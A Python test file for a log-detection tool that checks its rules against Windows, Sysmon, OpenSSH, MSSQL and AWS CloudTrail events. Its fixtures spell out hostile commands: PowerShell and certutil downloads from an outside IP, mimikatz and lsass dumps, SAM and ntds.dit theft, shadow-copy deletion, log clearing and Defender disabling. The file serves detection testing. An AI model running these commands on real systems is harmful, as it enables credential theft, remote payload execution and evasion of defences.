"""The shipped rules on Windows Security, System and Sysmon events: each fires on an attack and stays quiet on a benign neighbour."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from _rule_events import (
    UTC0,
    _trail,
    by_rule,
    failed_logon,
    fired,
    mssql_audit,
    parsed,
    security,
    sysmon1,
)

from logwarden.app.detect import Detector
from logwarden.app.events import Event, LogLine
from logwarden.app.parse import parse_lines


def test_windows_logon_failure_burst_and_spray(rules):
    burst = by_rule(Detector(rules).scan([failed_logon(i) for i in range(1, 13)]), "lw-win-logon-failure-burst")
    assert burst[0].line_numbers == list(range(1, 11)) + [11, 12]
    spray = Detector(rules).scan([failed_logon(i, user=f"user{i}") for i in range(1, 6)])
    assert [s.rule_id for s in spray] == ["lw-win-logon-failure-spray"]
    assert Detector(rules).scan([failed_logon(i) for i in range(1, 4)]) == []


def kerberos(event_id: int, i: int, status: str, user: str = "alice", ip: str = "10.23.123.11") -> Event:
    """4771/4768 as the DC writes them: the client address in IpAddress, the result in Status."""
    data = {"TargetUserName": user, "TargetSid": "S-1-5-21-1-2-3-1104", "ServiceName": "krbtgt/CORP",
            "TicketOptions": "0x40810010", "Status": status, "PreAuthType": "2", "IpAddress": ip, "IpPort": "50811"}
    return security(event_id, data, line_no=i, ts=UTC0 + timedelta(seconds=i))


def local_failed_logon(i: int, host_ip: str = "-") -> Event:
    return security(4625, {"TargetUserName": "Administrator", "TargetDomainName": "WIN", "Status": "0xc000006d",
                           "SubStatus": "0xc000006a", "LogonType": "2", "LogonProcessName": "Advapi  ",
                           "WorkstationName": "WIN", "IpAddress": host_ip, "IpPort": "-",
                           "ProcessName": "C:\\Users\\Admin\\Desktop\\tool.exe"}, line_no=i, ts=UTC0 + timedelta(seconds=i))


def test_kerberos_preauth_failure_burst_from_one_address(rules):
    burst = by_rule(Detector(rules).scan([kerberos(4771, i, "0x18") for i in range(1, 13)]),
                    "lw-win-kerberos-preauth-failure-burst")
    assert burst and burst[0].level == "medium" and burst[0].techniques == ["T1110"]
    # a device retrying a stale password a few times, and successful TGTs, are not an attack
    few = Detector(rules).scan([kerberos(4771, i, "0x18") for i in range(1, 4)] +
                               [kerberos(4768, i, "0x0") for i in range(4, 30)])
    assert by_rule(few, "lw-win-kerberos-preauth-failure-burst") == []


def test_kerberos_unknown_user_enumeration_counts_distinct_names(rules):
    names = [kerberos(4768, i, "0x6", user=f"user{i}") for i in range(1, 13)]
    assert by_rule(Detector(rules).scan(names), "lw-win-kerberos-unknown-user-burst")
    # one stale account name asked for again and again is a misconfiguration, not enumeration
    same = [kerberos(4768, i, "0x6", user="old-svc") for i in range(1, 30)]
    assert by_rule(Detector(rules).scan(same), "lw-win-kerberos-unknown-user-burst") == []


def test_local_logon_failure_burst_on_one_host(rules):
    signals = Detector(rules).scan([local_failed_logon(i) for i in range(1, 13)])
    assert by_rule(signals, "lw-win-local-logon-failure-burst")
    assert by_rule(signals, "lw-win-logon-failure-burst") == []  # no address: the network rule is blind here
    # network failures have their own, address-keyed rule; a few local typos are nothing
    assert by_rule(Detector(rules).scan([failed_logon(i) for i in range(1, 13)]), "lw-win-local-logon-failure-burst") == []
    assert by_rule(Detector(rules).scan([local_failed_logon(i) for i in range(1, 4)]),
                   "lw-win-local-logon-failure-burst") == []


def rdp_connection(i: int, client: str = "10.23.123.11") -> Event:
    """RdpCoreTS 131 as evtx_dump writes it: the client as `address:port` in ClientIP."""
    record = {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS"}},
                                   "EventID": 131, "Channel": "Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational",
                                   "Computer": "srv01.corp.local",
                                   "TimeCreated": {"#attributes": {"SystemTime": (UTC0 + timedelta(seconds=i)).isoformat()}}},
                        "EventData": {"ConnType": "TCP", "ClientIP": f"{client}:{36000 + i}"}}}
    [event] = parse_lines([LogLine("rdpcorets.json", 0, 0, i, json.dumps(record))], "windows")
    return event


def test_rdp_connection_burst_groups_by_the_client_address_without_its_port(rules):
    assert rdp_connection(1).fields["src_ip"] == "10.23.123.11"
    burst = Detector(rules).scan([rdp_connection(i) for i in range(1, 25)])
    assert by_rule(burst, "lw-win-rdp-connection-burst")
    # a person's sessions over the day, and several users each connecting a couple of times
    people = [rdp_connection(i, client=f"10.0.0.{i % 12}") for i in range(1, 25)]
    assert by_rule(Detector(rules).scan(people), "lw-win-rdp-connection-burst") == []


def openssh_event(i: int, payload: str) -> Event:
    """Win32-OpenSSH's OpenSSH/Operational event 4 as evtx_dump writes it: sshd's message in `payload`."""
    record = {"Event": {"System": {"Provider": {"#attributes": {"Name": "OpenSSH"}}, "EventID": 4,
                                   "Channel": "OpenSSH/Operational", "Computer": "fs01.corp.local",
                                   "TimeCreated": {"#attributes": {"SystemTime": (UTC0 + timedelta(seconds=i)).isoformat()}}},
                        "EventData": {"process": "sshd", "payload": payload}}}
    [event] = parse_lines([LogLine("openssh.json", 0, 0, i, json.dumps(record))], "windows")
    return event


def test_ssh_brute_force_on_windows_openssh(rules):
    failed = [openssh_event(i, f"Failed password for invalid user hacker{i} from 10.23.23.9 port 600{i} ssh2")
              for i in range(1, 7)]
    assert (failed[0].fields["src_ip"], failed[0].fields["user"]) == ("10.23.23.9", "hacker1")
    assert by_rule(Detector(rules).scan(failed), "lw-ssh-bruteforce")
    # one mistyped password, then the login, is a person
    person = [openssh_event(1, "Failed password for alice from 10.0.0.7 port 50001 ssh2"),
              openssh_event(2, "Accepted password for alice from 10.0.0.7 port 50001 ssh2")]
    assert by_rule(Detector(rules).scan(person), "lw-ssh-bruteforce") == []


def directory_change(object_dn: str, attribute: str = "nTSecurityDescriptor", line_no: int = 1) -> Event:
    """Security 5136 (a directory object was modified) with the attribute's new value."""
    return security(5136, {"SubjectUserName": "admmig", "SubjectDomainName": "CORP", "DSName": "corp.local",
                           "DSType": "%%14676", "ObjectDN": object_dn, "ObjectClass": "container",
                           "AttributeLDAPDisplayName": attribute, "AttributeSyntaxOID": "2.5.5.15",
                           "AttributeValue": "O:DAG:DAD:PAI(A;;GA;;;S-1-5-21-1-2-3-1205)", "OperationType": "%%14674"},
                    line_no=line_no)


def test_exchange_tier0_groups_are_privileged_and_ordinary_role_groups_are_not(rules):
    def added(group: str, rid: int) -> Event:
        return security(4756, {"MemberName": "CN=eve,CN=Users,DC=corp,DC=local", "MemberSid": "S-1-5-21-1-2-3-1147",
                               "TargetUserName": group, "TargetSid": f"S-1-5-21-1-2-3-{rid}"})
    assert by_rule(Detector(rules).scan([added("Organization Management", 1200)]), "lw-win-added-to-privileged-group")
    helpdesk = [added("Recipient Management", 1202), added("Help Desk", 1203), added("Sales Team", 1300)]
    assert by_rule(Detector(rules).scan(helpdesk), "lw-win-added-to-privileged-group") == []


def account_changed(event_id: int, uac: str, old: str = "0x84", new: str = "0x84") -> Event:
    """4742 (computer) / 4738 (user) as the DC writes them: UserAccountControl lists `%%` flag codes."""
    return security(event_id, {"TargetUserName": "WS7$", "TargetDomainName": "CORP", "SubjectUserName": "admmig",
                               "SamAccountName": "-", "OldUacValue": old, "NewUacValue": new,
                               "UserAccountControl": uac, "AllowedToDelegateTo": "-", "ServicePrincipalNames": "-"})


def test_delegation_enabled_on_an_account(rules):
    for uac in ("\r\n\t\t%%2093", "\r\n\t\t%%2098"):  # Trusted For Delegation / To Authenticate For Delegation
        signals = by_rule(Detector(rules).scan([account_changed(4742, uac, new="0x40084")]), "lw-win-delegation-enabled")
        assert [s.level for s in signals] == ["high"]
    # a password reset, "Don't Expire Password" or delegation being taken away are not this
    routine = [account_changed(4742, "-"), account_changed(4738, "\r\n\t\t%%2089"),
               account_changed(4742, "\r\n\t\t%%2061")]
    assert by_rule(Detector(rules).scan(routine), "lw-win-delegation-enabled") == []


def test_adminsdholder_acl_change(rules):
    signals = Detector(rules).scan([directory_change("CN=AdminSDHolder,CN=System,DC=corp,DC=local")])
    assert [(s.level, s.techniques) for s in by_rule(signals, "lw-win-adminsdholder-acl-change")] == [("high", ["T1098"])]
    # delegating rights on an ordinary OU, or another attribute of AdminSDHolder, is everyday administration
    ou = directory_change("OU=Sales,DC=corp,DC=local")
    other = directory_change("CN=AdminSDHolder,CN=System,DC=corp,DC=local", attribute="description")
    assert by_rule(Detector(rules).scan([ou, other]), "lw-win-adminsdholder-acl-change") == []


def test_mssql_logon_failure_burst(rules):
    wrong = "Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 10.23.23.9]"
    burst = Detector(rules).scan([mssql_audit(i, "LGIF", wrong) for i in range(1, 13)])
    assert by_rule(burst, "lw-win-mssql-logon-failure-burst")
    # successful logons (LGIS) and a couple of typos are routine
    routine = [mssql_audit(i, "LGIS", "-- network protocol: TCP/IP", "true") for i in range(1, 30)]
    routine += [mssql_audit(i, "LGIF", wrong) for i in range(30, 32)]
    assert by_rule(Detector(rules).scan(routine), "lw-win-mssql-logon-failure-burst") == []


def test_mssql_database_audit_specification_tampering(rules):
    dropped = mssql_audit(1, "DL", "DROP DATABASE AUDIT SPECIFICATION [db-audit-spec]", "true")
    assert [s.level for s in by_rule(Detector(rules).scan([dropped]), "lw-win-mssql-database-audit-tampering")] == ["medium"]
    select = mssql_audit(2, "SL", "SELECT * FROM audit_specifications", "true")  # reading about audits is not tampering
    assert by_rule(Detector(rules).scan([select]), "lw-win-mssql-database-audit-tampering") == []


@pytest.mark.parametrize("event_id, data, rule_id, level", [
    (4720, {"TargetUserName": "svc-backup2", "SubjectUserName": "admin"}, "lw-win-user-created", "medium"),
    (4732, {"MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "Administrators",
            "TargetSid": "S-1-5-32-544"}, "lw-win-added-to-privileged-group", "high"),
    (4728, {"MemberName": "CN=eve,CN=Users,DC=corp,DC=local", "TargetUserName": "Domain Admins",
            "TargetSid": "S-1-5-21-1-2-3-512"}, "lw-win-added-to-privileged-group", "high"),
    (4756, {"MemberName": "CN=eve,CN=Users,DC=corp,DC=local", "TargetUserName": "Exchange Windows Permissions",
            "TargetSid": "S-1-5-21-1-2-3-1207"}, "lw-win-added-to-privileged-group", "high"),
    (4697, {"ServiceName": "UpdaterSvc", "ServiceFileName": "C:\\Program Files\\Updater\\updater.exe"},
     "lw-win-service-installed", "medium"),
    (1102, {"SubjectUserName": "admin", "SubjectDomainName": "CORP"}, "lw-win-log-cleared", "high"),
])
def test_windows_security_events(detector, event_id, data, rule_id, level):
    signals = by_rule(detector.scan([security(event_id, data, line_no=9)]), rule_id)
    assert [(s.level, s.line_numbers) for s in signals] == [(level, [9])]


def test_member_added_to_an_ordinary_group_is_quiet(detector):
    event = security(4732, {"MemberSid": "S-1-5-21-1-2-3-1107", "TargetUserName": "Print Users",
                            "TargetSid": "S-1-5-21-1-2-3-1200"})
    assert detector.scan([event]) == []


def test_service_installs_from_system_log(detector):
    scm = "Service Control Manager"
    plain = security(7045, {"ServiceName": "Google Update", "ImagePath": "\"C:\\Program Files\\Google\\Update\\"
                             "GoogleUpdate.exe\" /svc", "StartType": "auto start"}, channel="System", provider=scm)
    psexec = security(7045, {"ServiceName": "BTOBTO", "ImagePath": "%COMSPEC% /Q /c echo whoami ^> "
                             "\\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat", "StartType": "demand start"},
                      channel="System", provider=scm, line_no=2)
    assert fired(detector.scan([plain])) == {"lw-win-service-installed"}
    assert fired(detector.scan([psexec])) == {"lw-win-service-installed", "lw-win-suspicious-service"}


def test_system_104_log_cleared_needs_the_eventlog_provider(detector):
    cleared = security(104, {"SubjectUserName": "admin", "Channel": "System"}, channel="System",
                       provider="Microsoft-Windows-Eventlog")
    other = security(104, {"param1": "x"}, channel="Application", provider="SomeVendorApp")
    assert fired(detector.scan([cleared])) == {"lw-win-log-cleared"}
    assert detector.scan([other]) == []


@pytest.mark.parametrize("command_line, image, rule_id", [
    ("powershell.exe -NoP -sta -NonI -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAA=",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "lw-win-powershell-encoded"),
    ("powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/a.ps1')\"",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "lw-win-powershell-download"),
    ("mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit", "C:\\Users\\Public\\m.exe",
     "lw-win-credential-dumping"),
    ("procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp", "C:\\Tools\\procdump64.exe",
     "lw-win-credential-dumping"),
    ("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\out.dmp full",
     "C:\\Windows\\System32\\rundll32.exe", "lw-win-credential-dumping"),
    ("certutil.exe -urlcache -split -f http://198.51.100.9/p.exe C:\\Users\\Public\\p.exe",
     "C:\\Windows\\System32\\certutil.exe", "lw-win-certutil-download"),
    ("regsvr32 /s /n /u /i:http://198.51.100.9/file.sct scrobj.dll", "C:\\Windows\\System32\\regsvr32.exe",
     "lw-win-regsvr32-scriptlet"),
    ("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \";document.write();GetObject(\"script:http://x/a\")",
     "C:\\Windows\\System32\\rundll32.exe", "lw-win-rundll32-script"),
    ("mshta.exe http://198.51.100.9/payload.hta", "C:\\Windows\\System32\\mshta.exe", "lw-win-mshta-remote"),
    ("bitsadmin /transfer myjob /download /priority high http://198.51.100.9/a.exe C:\\Temp\\a.exe",
     "C:\\Windows\\System32\\bitsadmin.exe", "lw-win-bitsadmin-transfer"),
    ("vssadmin.exe delete shadows /all /quiet", "C:\\Windows\\System32\\vssadmin.exe", "lw-win-shadow-copy-deletion"),
    ("wmic shadowcopy delete", "C:\\Windows\\System32\\wbem\\WMIC.exe", "lw-win-shadow-copy-deletion"),
    ("wevtutil.exe cl Security", "C:\\Windows\\System32\\wevtutil.exe", "lw-win-wevtutil-clear"),
])
def test_suspicious_command_lines(detector, command_line, image, rule_id):
    signals = detector.scan([sysmon1(command_line, image, line_no=3)])
    assert rule_id in fired(signals)
    signal = by_rule(signals, rule_id)[0]
    assert signal.line_numbers == [3] and signal.source == "sysmon.json"
    assert signal.level in ("medium", "high", "critical")


@pytest.mark.parametrize("command_line, image", [
    ("powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\scripts\\backup.ps1",
     "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
    ("certutil.exe -hashfile C:\\Temp\\setup.exe SHA256", "C:\\Windows\\System32\\certutil.exe"),
    ("vssadmin.exe list shadows", "C:\\Windows\\System32\\vssadmin.exe"),
    ("wevtutil.exe qe Security /c:5 /rd:true /f:text", "C:\\Windows\\System32\\wevtutil.exe"),
    ("rundll32.exe shell32.dll,Control_RunDLL desk.cpl", "C:\\Windows\\System32\\rundll32.exe"),
    ("\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --enable-features=x",
     "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"),
])
def test_benign_command_lines_make_no_signal(detector, command_line, image):
    assert detector.scan([sysmon1(command_line, image)]) == []


def _win(event_id: int, channel: str = "Security", second: int = 0, **data) -> str:
    return json.dumps({"EventID": event_id, "Channel": channel, "Computer": "WS-17.corp.local",
                       "TimeCreated": f"2025-04-02T10:00:{second:02d}Z", **data})


SYSMON = "Microsoft-Windows-Sysmon/Operational"


@pytest.mark.parametrize("lines, rule_id", [
    ([_win(10, SYSMON, SourceImage="C:\\Users\\bob\\AppData\\Local\\Temp\\p64.exe", TargetImage="C:\\Windows\\system32\\lsass.exe",
           GrantedAccess="0x1FFFFF")], "lw-win-lsass-access"),
    ([_win(4104, "Microsoft-Windows-PowerShell/Operational",
           ScriptBlockText="IEX (New-Object Net.WebClient).DownloadString('http://45.9.20.11/a.ps1'); Invoke-Mimikatz -DumpCreds")],
     "lw-win-powershell-offensive-script"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\schtasks.exe",
           CommandLine='schtasks.exe /create /sc minute /mo 5 /tn "Updater" /tr "C:\\Users\\Public\\u.exe"')],
     "lw-win-scheduled-task-created"),
    ([_win(4698, TaskName="\\Updater", SubjectUserName="bob")], "lw-win-scheduled-task-created"),
    ([_win(13, SYSMON, EventType="SetValue", Image="C:\\Users\\Public\\u.exe",
           TargetObject="HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater")], "lw-win-run-key"),
    ([_win(4769, second=i, ServiceName=f"svc_sql{i}", TicketEncryptionType="0x17", IpAddress="::ffff:10.0.4.9",
           TargetUserName="bob@CORP.LOCAL") for i in range(4)], "lw-win-kerberoasting"),
    ([_win(4662, SubjectUserName="bob", ObjectServer="DS", AccessMask="0x100",
           Properties="%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}")], "lw-win-dcsync"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           CommandLine="powershell Set-MpPreference -DisableRealtimeMonitoring $true")], "lw-win-defender-tampering"),
    ([_win(4688, NewProcessName="C:\\Windows\\System32\\net.exe", CommandLine="net  user support_x P@ssw0rd! /add")],
     "lw-win-net-user-add"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\net1.exe",
           CommandLine='C:\\Windows\\system32\\net1  localgroup "Administrators" support_x /add')], "lw-win-net-user-add"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\reg.exe", CommandLine="reg.exe save HKLM\\SAM C:\\Users\\Public\\s.hiv")],
     "lw-win-registry-hive-dump"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\ntdsutil.exe",
           CommandLine='ntdsutil "ac i ntds" "ifm" "create full c:\\temp\\x" q q')], "lw-win-registry-hive-dump"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\cmd.exe",
           CommandLine="cmd /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\temp\\n.dit")],
     "lw-win-registry-hive-dump"),
    ([_win(8, SYSMON, SourceImage="C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
           TargetImage="C:\\Windows\\System32\\notepad.exe", StartFunction="-")], "lw-win-remote-thread-injection"),
    ([_win(1, SYSMON, Image="C:\\Windows\\System32\\wbem\\WMIC.exe",
           CommandLine='wmic /node:"10.0.4.22" /user:corp\\adm process call create "cmd /c c:\\windows\\temp\\a.bat"')],
     "lw-win-wmi-remote-process"),
    ([_win(4624, LogonType="9", LogonProcessName="seclogo", AuthenticationPackageName="Negotiate",
           TargetUserName="bob", SubjectUserName="bob")], "lw-win-pass-the-hash"),
    ([_win(1, SYSMON, second=i, Image="C:\\Windows\\System32\\cmd.exe", CommandLine=c) for i, c in enumerate(
        ["whoami /all", 'net group "domain admins" /domain', "nltest /dclist:corp", "ipconfig /all", "systeminfo"])],
     "lw-win-discovery-burst"),
])
def test_windows_credential_access_persistence_and_evasion(rules, lines, rule_id):
    signals = by_rule(Detector(rules).scan(parsed(lines, "windows", "sec.json")), rule_id)
    assert len(signals) == 1 and signals[0].line_numbers == list(range(1, len(lines) + 1))


@pytest.mark.parametrize("lines", [
    [_win(10, SYSMON, SourceImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe",
          TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1410")],
    [_win(10, SYSMON, SourceImage="C:\\Tools\\x.exe", TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess="0x1000")],
    [_win(4769, second=i, ServiceName=f"svc_sql{i}", TicketEncryptionType="0x12", IpAddress="::ffff:10.0.4.9") for i in range(4)],
    [_win(4769, second=i, ServiceName=f"WS-{i}$", TicketEncryptionType="0x17", IpAddress="::ffff:10.0.4.9") for i in range(4)],
    [_win(4662, SubjectUserName="DC01$", Properties="{1131f6ad-9c07-11d1-f79f-00c04fc2dcd2}")],
    [_win(1, SYSMON, Image="C:\\Windows\\System32\\schtasks.exe", CommandLine="schtasks /query /fo LIST")],
    [_win(4104, "Microsoft-Windows-PowerShell/Operational", ScriptBlockText="Get-ChildItem C:\\Logs | Remove-Item")],
    [_win(1, SYSMON, Image="C:\\Windows\\System32\\net.exe", CommandLine="net user bob /domain")],
    [_win(1, SYSMON, Image="C:\\Windows\\System32\\reg.exe", CommandLine="reg query HKLM\\SYSTEM\\CurrentControlSet")],
    [_win(8, SYSMON, SourceImage="C:\\Windows\\System32\\csrss.exe", TargetImage="C:\\Windows\\System32\\svchost.exe")],
    [_win(4624, LogonType="2", LogonProcessName="User32", AuthenticationPackageName="Negotiate", TargetUserName="bob")],
    [_win(1, SYSMON, second=i, Image="C:\\Windows\\System32\\cmd.exe", CommandLine=c)
     for i, c in enumerate(["whoami", "whoami", "ipconfig /all", "hostname"])],  # three distinct: an admin's habit
])
def test_windows_benign_lookalikes_are_quiet(rules, lines):
    assert Detector(rules).scan(parsed(lines, "windows", "sec.json")) == []


@pytest.mark.parametrize("lines, rule_id", [
    ([_trail(n, second=i, error="AccessDenied") for i, n in enumerate(
        ["ListUsers", "ListRoles", "DescribeInstances", "ListBuckets", "GetAccountSummary", "ListSecrets",
         "DescribeDBInstances", "ListFunctions", "DescribeSnapshots", "ListAccessKeys"])], "lw-aws-access-denied-burst"),
    ([_trail("ModifySnapshotAttribute", {"snapshotId": "snap-0a1", "attributeType": "CREATE_VOLUME_PERMISSION",
                                         "createVolumePermission": {"add": {"items": [{"userId": "444455556666"}]}}})],
     "lw-aws-snapshot-or-image-shared"),
    ([_trail("GetSecretValue", {"secretId": f"prod/db-{i}"}, second=i, source="secretsmanager.amazonaws.com")
      for i in range(5)], "lw-aws-secrets-harvest"),
    ([_trail("GetParameter", {"name": f"/prod/key{i}", "withDecryption": True}, second=i, source="ssm.amazonaws.com")
      for i in range(5)], "lw-aws-secrets-harvest"),
    ([_trail("UpdateLoginProfile", {"userName": "alice"}, source="iam.amazonaws.com")], "lw-aws-login-profile-for-other-user"),
    ([_trail("DeleteDetector", {"detectorId": "12abc"}, source="guardduty.amazonaws.com")], "lw-aws-detection-disabled"),
    ([_trail("UpdateDetector", {"detectorId": "12abc", "enable": False}, source="guardduty.amazonaws.com")],
     "lw-aws-detection-disabled"),
    ([_trail("AuthorizeSecurityGroupIngress", {"groupId": "sg-1", "ipPermissions": {"items": [
        {"ipProtocol": "tcp", "fromPort": 22, "toPort": 22, "ipRanges": {"items": [{"cidrIp": "0.0.0.0/0"}]}}]}})],
     "lw-aws-security-group-open-to-world"),
    ([_trail("GetPasswordData", {"instanceId": f"i-0{i}"}, second=i, error="Client.UnauthorizedOperation" if i % 2 else None)
      for i in range(6)], "lw-aws-ec2-password-data-harvest"),
    ([_trail("ModifyInstanceAttribute", {"instanceId": "i-01", "userData": {"value": "IyEvYmluL2Jhc2gK"}})],
     "lw-aws-ec2-user-data-modified"),
    ([_trail("UpdateAssumeRolePolicy", {"roleName": "ops", "policyDocument": json.dumps(
        {"Statement": [{"Effect": "Allow", "Principal": {"AWS": "*"}, "Action": "sts:AssumeRole"}]})},
        source="iam.amazonaws.com")], "lw-aws-role-trust-anyone"),
    ([_trail("AddPermission20150331v2", {"functionName": "billing", "statementId": "x", "action": "lambda:InvokeFunction",
                                         "principal": "*"}, source="lambda.amazonaws.com")], "lw-aws-lambda-public-permission"),
    ([_trail("ScheduleKeyDeletion", {"keyId": "k-1", "pendingWindowInDays": 7}, source="kms.amazonaws.com")],
     "lw-aws-kms-key-disabled-or-deleted"),
    ([_trail("LeaveOrganization", {}, source="organizations.amazonaws.com")], "lw-aws-leave-organization"),
    ([_trail("DeleteResolverQueryLogConfig", {"resolverQueryLogConfigId": "rqlc-1"}, source="route53resolver.amazonaws.com")],
     "lw-aws-logging-weakened"),
    ([_trail("PutBucketLifecycle", {"bucketName": "org-trail-logs", "LifecycleConfiguration": {"Rule": {
        "Expiration": {"Days": 1}, "Status": "Enabled", "Filter": {"Prefix": ""}}}}, source="s3.amazonaws.com")],
     "lw-aws-cloudtrail-bucket-expiry"),
])
def test_cloudtrail_attack_techniques(rules, lines, rule_id):
    signals = by_rule(Detector(rules).scan(parsed(lines, "cloudtrail", "trail.json")), rule_id)
    assert len(signals) == 1 and signals[0].line_numbers == list(range(1, len(lines) + 1))
